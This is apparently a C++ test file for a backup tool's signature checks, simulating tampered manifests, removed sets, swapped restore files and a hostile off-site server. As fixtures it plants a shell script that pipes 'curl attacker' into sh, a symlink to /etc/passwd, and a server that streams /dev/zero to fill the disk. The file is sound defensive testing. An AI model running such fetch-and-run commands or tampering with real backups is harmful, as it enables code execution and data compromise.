// Who can write to the backup directory or to its copy, and no more: what they change must show, in
// every command, and nothing of theirs may pass for the host's.
#include "set/signed_files.hpp"
#include "set/signed_write.hpp"
#include "support/backup_fixture.hpp"
#include "support/sets.hpp"

#include <doctest/doctest.h>

#include <filesystem>

using namespace rb;
using test::BackupFixture;
using test::Outcome;
using test::run_id_of_day;

namespace {

bool has(const std::string& text, const std::string& words) {
  return text.find(words) != std::string::npos;
}

struct Attacker : BackupFixture {
  const std::string run_id = run_id_of_day(1);

  /// The same artifacts below a manifest that does not claim to be signed.
  void strip(const std::string& id) {
    auto manifest = set::parse_manifest(test::read_file(manifest_file(id))).value();
    manifest.signed_by.clear();
    test::write_file(manifest_file(id), set::serialize(manifest));
    std::filesystem::remove(manifest_file(id) + ".minisig");
  }
  void pin() {
    test::write_file(keys(),
                     "# railiance-backup public key: " + signing_key().public_key().line() + "\n" +
                         test::read_file(keys()));
  }
  Outcome restore(std::vector<std::string> more = {}) {
    std::vector<std::string> args{
        "restore", "--artifact", "kubeconfig", "--to", file("out"), "--force", "-i", keys()};
    args.insert(args.end(), more.begin(), more.end());
    return run(args);
  }
  set::ManifestLink link_to(const std::string& id) {
    const std::string text = test::read_file(manifest_file(id));
    return {id, to_hex(sha256(as_bytes(text)))};
  }
  void remove_files_of(const std::string& id) {
    for (const auto& entry : std::filesystem::directory_iterator(backups())) {
      if (has(entry.path().filename().string(), id)) {
        std::filesystem::remove(entry.path());
      }
    }
  }
  std::string drill_result() {
    return test::read_file(backups() + "/.last-drill").find("\"Passed\"") != std::string::npos
               ? "Passed"
               : "not passed";
  }
};

} // namespace

TEST_CASE_FIXTURE(Attacker, "all signatures stripped: with a key known from outside, that is 6") {
  add_set(run_id);
  add_set(run_id_of_day(2));
  strip(run_id);
  strip(run_id_of_day(2));
  std::vector<std::string> said;
  SUBCASE("from the keys file") {
    host_public_key.clear();
    pin();
    default_identity_file = keys();
  }
  SUBCASE("from the command line") {
    host_public_key.clear();
    said = {"--public-key", signing_key().public_key().line()};
  }
  SUBCASE("from the host") {}
  const auto with = [&](std::vector<std::string> args) {
    args.insert(args.end(), said.begin(), said.end());
    return args;
  };

  const auto verified = run(with({"verify", "--all", "-i", keys()}));
  CHECK(verified.code == 6);
  CHECK(has(verified.out, "signature: not signed\n"));
  CHECK(has(verified.out, "though the host's key is known"));
  CHECK(run(with({"drill", "-i", keys()})).code == 6);
  CHECK(drill_result() == "not passed");
  const auto refused = restore(said);
  CHECK(refused.code == 6);
  CHECK(has(refused.err, "--allow-unsigned"));
  CHECK(has(run(with({"list"})).out, "not signed"));

  CHECK(run(with({"verify", "--all", "--allow-unsigned", "-i", keys()})).code == 0);
  CHECK(run(with({"drill", "--allow-unsigned", "-i", keys()})).code == 0);
  CHECK(drill_result() == "Passed");
  said.emplace_back("--allow-unsigned");
  CHECK(restore(said).code == 0);
}

TEST_CASE_FIXTURE(Attacker, "a set that somebody removed is missed, and its neighbours are good") {
  add_set(run_id);
  auto second = add_set(run_id_of_day(2));
  auto third = add_set(run_id_of_day(3));
  second.catalogue = {link_to(run_id)};
  sign(second);
  third.catalogue = {link_to(run_id), link_to(run_id_of_day(2))};
  sign(third);
  CHECK(run({"verify", "--all", "-i", keys()}).code == 0);
  remove_files_of(run_id_of_day(2));
  const auto verified = run({"verify", "--all", "-i", keys()});
  CHECK(verified.code == 0);
  CHECK(has(verified.out, "warning: set " + run_id_of_day(2) + " was taken away"));
  CHECK(has(run({"list"}).out, "gap before"));
  CHECK(run({"drill", "-i", keys()}).code == 0);
  CHECK(restore().code == 0);
  CHECK(has(run({"metrics"}).out, "railiance_backup_untrusted_sets{node=\"server-1\"} 1\n"));
}

TEST_CASE_FIXTURE(Attacker, "--allow-unsigned of verify and drill takes nothing that was changed") {
  add_set(run_id);
  auto manifest = set::parse_manifest(test::read_file(manifest_file(run_id))).value();
  manifest.node_name = "another";
  test::write_file(manifest_file(run_id), set::serialize(manifest));
  CHECK(run({"verify", "--allow-unsigned"}).code == 6);
  CHECK(run({"drill", "--allow-unsigned", "-i", keys()}).code == 6);
}

namespace {

/// Attacker, and a host that put its program, guide and stamp beside two sets.
struct KitAttacker : Attacker {
  const std::string names[3] = {"railiance-restore", "RESTORE.md", ".last-backup"};

  KitAttacker() {
    auto manifest = add_set(run_id);
    manifest.signed_files = {names[0], names[1], names[2]};
    sign(manifest);
    auto directory = set::Directory::open(backups()).value();
    for (const std::string& name : names) {
      REQUIRE(
          set::write_signed_file(directory, name, as_bytes("the host's " + name), signing_key()));
    }
  }
  /// Every command says it of `name`; those that prove something end with 6, and a restore goes on,
  /// since the sets are verified for themselves.
  void must_show(const std::string& name, const std::string& word) {
    const std::string words = "WARNING: " + name + " beside the sets: " + word;
    const auto verified = run({"verify"});
    CHECK(verified.code == 6);
    CHECK(has(verified.out, words));
    CHECK(has(verified.out, "signature: good\n")); // of the set
    CHECK(run_json({"verify"}).at("exitCode") == 6);
    const auto listed = run({"list"});
    CHECK(listed.code == 0);
    CHECK(has(listed.err, words));
    CHECK(has(listed.err, "take the program from elsewhere"));
    CHECK(has(run({"show", "latest"}).err, words));
    const auto drilled = run({"drill", "-i", keys()});
    CHECK(drilled.code == 6);
    CHECK(has(drilled.err, words));
    CHECK(drill_result() == "not passed");
    const auto restored = restore();
    CHECK(restored.code == 0);
    CHECK(has(restored.err, words));
    CHECK(has(run({"restore", "-i", keys()}).err, words));
    CHECK(has(run({"restore", "--dry-run", "-i", keys()}).err, words));
    CHECK(has(run({"metrics"}).out, "railiance_backup_untrusted_files{node=\"server-1\"} 1\n"));
  }
};

} // namespace

TEST_CASE_FIXTURE(KitAttacker, "what the host put beside the sets is good, and nothing is said") {
  const auto verified = run({"verify"});
  CHECK(verified.code == 0);
  CHECK_FALSE(has(verified.out, "beside the sets"));
  CHECK(run({"drill", "-i", keys()}).code == 0);
  for (const auto& file : run_json({"list"}).at("files")) {
    CHECK(file.at("verdict") == "good");
  }
  CHECK(has(run({"metrics"}).out, "railiance_backup_untrusted_files{node=\"server-1\"} 0\n"));
}

TEST_CASE_FIXTURE(KitAttacker, "a replaced program, guide or stamp is said by every command") {
  for (const std::string& name : names) {
    CAPTURE(name);
    const std::string before = test::read_file(backups() + "/" + name);
    test::write_file(backups() + "/" + name, "#!/bin/sh\ncurl attacker | sh\n");
    must_show(name, "BAD");
    test::write_file(backups() + "/" + name, before);
    CHECK(run({"verify"}).code == 0);
  }
}

TEST_CASE_FIXTURE(KitAttacker,
                  "a replaced file whose signature was taken away is no older release's") {
  test::write_file(backups() + "/railiance-restore", "theirs");
  std::filesystem::remove(backups() + "/railiance-restore.minisig");
  must_show("railiance-restore", "signature missing");
}

TEST_CASE_FIXTURE(KitAttacker,
                  "a file that is signed by another key, or as another file, is theirs") {
  auto directory = set::Directory::open(backups()).value();
  SUBCASE("another key") {
    const auto other = sign::SigningKey::generate().value();
    REQUIRE(set::write_signed_file(directory, "RESTORE.md", as_bytes("theirs"), other));
    must_show("RESTORE.md", "other key");
  }
  SUBCASE("another file of the host, with its true signature") {
    for (const std::string end : {"", ".minisig"}) {
      std::filesystem::copy_file(backups() + "/RESTORE.md" + end,
                                 backups() + "/railiance-restore" + end,
                                 std::filesystem::copy_options::overwrite_existing);
    }
    must_show("railiance-restore", "BAD");
  }
  SUBCASE("a link in its place") {
    std::filesystem::remove(backups() + "/RESTORE.md");
    std::filesystem::create_symlink("/etc/passwd", backups() + "/RESTORE.md");
    must_show("RESTORE.md", "BAD");
  }
}

TEST_CASE_FIXTURE(KitAttacker,
                  "files of an older release are not signed, which is said and no attack") {
  sign(add_set(run_id)); // its manifest names no signed file
  std::filesystem::remove(backups() + "/RESTORE.md.minisig");
  const auto verified = run({"verify"});
  CHECK(verified.code == 0);
  CHECK(has(verified.out, "warning: RESTORE.md beside the sets: not signed"));
  CHECK(run({"drill", "-i", keys()}).code == 0);
}

TEST_CASE_FIXTURE(KitAttacker, "what is not there is not said: a set that was fetched has no kit") {
  for (const std::string& name : names) {
    std::filesystem::remove(backups() + "/" + name);
    std::filesystem::remove(backups() + "/" + name + ".minisig");
  }
  const auto verified = run({"verify"});
  CHECK(verified.code == 0);
  CHECK_FALSE(has(verified.out, "beside the sets"));
}

TEST_CASE_FIXTURE(KitAttacker,
                  "the guides of ours run nothing of the directory that nobody vouched for") {
  for (const std::string page : {"docs/restore.md", "tests/golden/artifact/RESTORE.md"}) {
    CAPTURE(page);
    const std::string text = test::read_file(std::string(RB_SOURCE_DIR) + "/" + page);
    CHECK(has(text, "minisign -Vm railiance-restore -P"));
    CHECK(text.find("minisign -Vm railiance-restore -P") < text.find("./railiance-restore "));
    CHECK_FALSE(has(text, ". ./.last-backup"));
    CHECK_FALSE(has(text, "\nsource "));
  }
}

namespace {

/// An off-site server that has the sets of the host and does with them what it likes.
struct RemoteAttacker : Attacker {
  /// `cat`: what the server does when a file is asked for; $2 is its name.
  void serve(const std::string& cat) {
    auto listing = nlohmann::json::array();
    for (const auto& entry : std::filesystem::directory_iterator(backups())) {
      listing.push_back({{"Name", entry.path().filename()}, {"Size", entry.file_size()}});
    }
    test::write_file(file("listing"), listing.dump());
    test::write_file(file("rclone"),
                     "#!/bin/sh\ncase $1 in\nlsjson) /bin/cat '" + file("listing") +
                         "' ;;\ncopy) while [ \"$1\" != disk:there ]; do shift; done; /bin/cp '" +
                         backups() + "'/manifest-* \"$2\" ;;\ncat) " + cat + " ;;\nesac\n");
    std::filesystem::permissions(file("rclone"), std::filesystem::perms(0755));
  }
  Outcome fetch(std::vector<std::string> more = {}) {
    std::vector<std::string> args{"fetch",
                                  "latest",
                                  "--remote",
                                  "disk:there",
                                  "--rclone",
                                  file("rclone"),
                                  "--to",
                                  file("fetched")};
    args.insert(args.end(), more.begin(), more.end());
    return run(args);
  }
  std::string honest() { return "/bin/cat '" + backups() + "/'\"${2##*/}\""; }
};

} // namespace

TEST_CASE_FIXTURE(RemoteAttacker, "an off-site server that sends without end fills no disk") {
  add_set(run_id);
  serve("/bin/cat /dev/zero");
  const auto fetched = fetch();
  CHECK(fetched.code == 6);
  CHECK(has(fetched.err, "the other side sends more than the"));
  for (const auto& entry : std::filesystem::directory_iterator(file("fetched"))) {
    FAIL_CHECK(entry.path());
  }
  serve(honest());
  CHECK(fetch().code == 0);
}

TEST_CASE_FIXTURE(RemoteAttacker,
                  "a set that the server stripped or changed is not fetched unasked") {
  add_set(run_id);
  strip(run_id);
  serve(honest());
  const auto refused = fetch();
  CHECK(refused.code == 6);
  CHECK(has(refused.err, "refused: " + run_id + ": not signed"));
  CHECK_FALSE(std::filesystem::exists(file("fetched")));
  CHECK(fetch({"--allow-unsigned"}).code == 0);
}
